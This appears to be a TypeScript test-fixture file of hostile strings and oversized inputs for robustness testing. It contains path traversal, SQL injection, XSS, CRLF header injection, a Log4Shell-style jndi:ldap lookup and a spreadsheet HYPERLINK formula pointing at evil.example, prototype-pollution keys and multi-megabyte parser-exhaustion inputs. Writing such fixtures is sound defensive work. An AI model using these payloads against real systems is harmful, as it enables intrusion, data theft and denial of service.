/** `[[[…]]]` of the given depth. */
export const deepNesting = (depth: number): string => '['.repeat(depth) + ']'.repeat(depth);

/** Texts that some software interprets as something other than text. */
export const hostileTexts: readonly string[] = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  'a\udc00b',
  '\ufeffx',
  '\u202etxt.exe',
  '\u2066x\u2069',
  '\u2028',
  '\x1b[2J\x1b]0;x\x07',
  '\u009b31m',
  'e\u0301',
  'İ',
  'ß',
  '👩‍👩‍👧',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '1e999',
  '0x10',
  '-0',
  '1_000',
  '١٢٣',
  '../../../etc/passwd',
  '..\\..\\x',
  '..',
  './.',
  '/',
  '%2e%2e%2f',
  'raw/../x',
  'a/b?c#d',
  '//evil.example/x',
  'https://evil.example/x',
  'javascript:alert(1)',
  'x\r\nset-cookie: a=b',
  '=HYPERLINK("http://evil.example")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b@SUM(A1)',
  '\uff1d1+1',
  'x;=1+1',
  '"=1"',
  'a,b\n=1',
  "' OR 1=1 --",
  '<script>alert(1)</script>',
  ['$', '{jndi:ldap://evil.example}'].join(''),
  '{{7*7}}',
  '2026-02-30T00:00:00Z',
  '2026-11-26t10:00:00,5+0000',
  '2026-11-26 05:00:00.100900 -05',
  '20260105',
  '46027',
  '99999999999',
  '1770091506.0',
  '2134',
  'Washington , D. C.\u200b',
  '2026-01-01T00:00:00+99:99',
  '+275760-09-13T00:00:00Z',
  '0000-00-00',
  '9'.repeat(40),
  `${'1'.repeat(20_000)}x`,
  `${'+'.repeat(20_000)}1234567890`,
  `${' '.repeat(20_000)}x`,
  `${'a.'.repeat(10_000)}@`,
  'a'.repeat(5_000),
];

const mebibyte = 1_024 * 1_024;
const memoized = new Map<string, Buffer>();

/** Large values, created once on demand. */
const large = {
  'an array 100,000 deep': () => deepNesting(100_000),
  'an object 100,000 deep': () => `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`,
  'an unclosed array 200,000 deep': () => '['.repeat(200_000),
  'a text of 10 MiB': () => `"${'a'.repeat(10 * mebibyte - 2)}"`,
  'a number of 1 MiB': () => '1'.repeat(mebibyte),
  'an array of 3 MiB': () => `[${'0,'.repeat((3 * mebibyte) / 2 - 2)}0]`,
  'a list of 60,000': () => `[${'0,null,{},"",[],"x",'.repeat(10_000)}0]`,
  'an object of 40,000 keys': () => `{${Array.from({ length: 40_000 }, (_, key) => `"k${key}":0`).join(',')}}`,
  '3 MiB of NUL': () => '\0'.repeat(3 * mebibyte),
} as const;

export type Large = keyof typeof large;
export const largeNames = Object.keys(large) as Large[];

export const largeBytes = (name: Large): Buffer => {
  const bytes = memoized.get(name) ?? Buffer.from(large[name]());
  memoized.set(name, bytes);
  return bytes;
};
